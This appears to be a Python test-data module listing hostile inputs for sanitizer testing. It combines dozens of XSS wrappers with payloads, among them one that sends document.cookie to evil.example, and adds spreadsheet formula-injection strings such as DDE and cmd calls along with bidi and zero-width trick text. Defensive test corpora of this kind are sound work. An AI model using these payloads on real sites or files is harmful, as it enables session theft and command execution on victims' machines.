"""Texts that try to become something else: markup, scripts, templates, spreadsheet formulas, turned-around text."""

from __future__ import annotations

from itertools import product

_CALLS = ("alert(1)", "fetch('//evil.example/'+document.cookie)", "top.pwned=1")
_WRAPS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=//evil.example/x.js></script><i>{}</i>",
    "<img src=x onerror={}>",
    "<img src=x onerror=\"{}\">",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<iframe srcdoc=\"<script>{}</script>\"></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<a href=\"javascript:{}\" autofocus>x</a>",
    "<object data=\"javascript:{}\"></object>",
    "<math><mtext><mglyph><style><img src=x onerror={}>",
    "<form><button formaction=javascript:{}>x",
    "<marquee onstart={}>x</marquee>",
    "<style>@import'//evil.example/x.css';</style>{}",
    "<link rel=stylesheet href=//evil.example/x.css>{}",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
    "<base href=//evil.example/>{}",
    "\"><script>{}</script>",
    "'><script>{}</script>",
    "\" autofocus onfocus=\"{}",
    "' autofocus onfocus='{}",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</option></select><script>{}</script>",
    "</style><script>{}</script>",
    "<!--<script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "＜script＞{}＜/script＞",
    "<scr\x00ipt>{}</script>",
    "<scr\u200bipt>{}</script>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "{{{{ {} }}}}",
    "{{% for x in range(9) %}}{}{{% endfor %}}",
    "${{{}}}",
    "#{{{}}}",
    "[x](javascript:{})",
    "![x](x\"onerror=\"{})",
    "`{}`",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<template><script>{}</script></template>",
    "<x contenteditable onblur={} autofocus>x</x>",
    "<p style=\"background:url(//evil.example/x)\">{}</p>",
)  # fmt: skip
_TURNED = (
    "\u202egnihtyreve si ti\u202c fine",
    "\u2066left\u2069 right \u2067calf\u2069",
    "ok\u200b\u200c\u200d\ufeffok",
    "a\u0301" * 50,
    "\u061cok",
)
_FORMULAS = (
    "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠x", "\u200b=1+1", "\ufeff=1+1", "%0A=1", "|calc",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "\u00a0=1", "=1+1;=2", "-1|2", "+cmd|' /C calc'!A0", "@=1", "=\u202e1",
)  # fmt: skip

MARKUP = tuple(wrap.format(call) for wrap, call in product(_WRAPS, _CALLS))
FORMULAS = _FORMULAS
ALL = (*MARKUP, *_TURNED, *_FORMULAS, *(f"{formula}<script>alert(1)</script>" for formula in _FORMULAS))
